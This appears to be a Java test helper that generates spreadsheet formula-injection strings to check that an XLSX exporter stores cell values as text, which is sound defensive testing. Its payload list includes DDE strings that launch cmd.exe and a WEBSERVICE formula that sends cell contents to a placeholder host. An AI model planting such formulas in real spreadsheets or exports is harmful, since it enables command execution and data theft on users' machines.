package no.kompetanseplan.exchange.xlsx.page;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/// Texts that a spreadsheet program would run as formulas if they were not kept as text.
public final class Injections {

    private static final List<String> STARTS =
            List.of("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "=-", "@@", "+-");

    private static final List<String> BODIES =
            List.of(
                    "1+1",
                    "cmd|' /C calc'!A0",
                    "HYPERLINK(\"https://eksempel.invalid\";\"Klikk\")",
                    "SUM(A1:A9)",
                    "WEBSERVICE(\"https://eksempel.invalid/\"&A1)",
                    "IMPORTXML(\"a\",\"b\")",
                    "2+5+cmd|' /C notepad'!A0",
                    "DDE(\"cmd\";\"/C calc\";\"a\")",
                    "æøå & <b>\"fett\"</b>",
                    "12 500",
                    "'A1",
                    "_x0041_");

    private Injections() {}

    public static List<String> texts(int count, Random random) {
        List<String> texts = new ArrayList<>();
        for (String start : STARTS) {
            for (String body : BODIES) {
                texts.add(start + body);
            }
        }
        while (texts.size() < count) {
            String start = STARTS.get(random.nextInt(STARTS.size()));
            String body = BODIES.get(random.nextInt(BODIES.size()));
            texts.add(start + " ".repeat(random.nextInt(3)) + body + random.nextInt(1000));
        }
        return texts;
    }
}
